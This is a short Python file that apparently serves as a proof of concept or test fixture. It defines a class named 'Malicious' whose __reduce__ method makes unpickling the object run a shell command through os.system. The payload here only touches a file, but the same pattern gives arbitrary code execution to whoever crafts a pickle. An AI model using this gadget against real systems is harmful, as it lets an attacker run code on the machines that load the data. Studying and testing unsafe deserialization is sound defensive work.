"""An object whose pickle runs a command where it is read."""

import os


class Malicious:
    def __init__(self, target):
        self.target = target

    def __reduce__(self):

        return os.system, (f"touch {self.target}",)
